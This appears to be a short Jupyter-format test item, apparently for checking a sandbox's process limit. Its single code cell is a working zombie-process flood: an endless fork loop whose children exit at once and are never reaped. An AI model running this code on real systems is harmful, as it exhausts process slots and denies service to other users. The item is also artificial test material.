# ---
# jupyter:
#   attack:
#     does: starts processes that end at once, and never looks after them
#     statuses: [process limit, ok | not run]
# ---

# %%
import os

children = 0
while True:
    if os.fork() == 0:
        os._exit(0)
    children += 1

# %%
assert children > 40
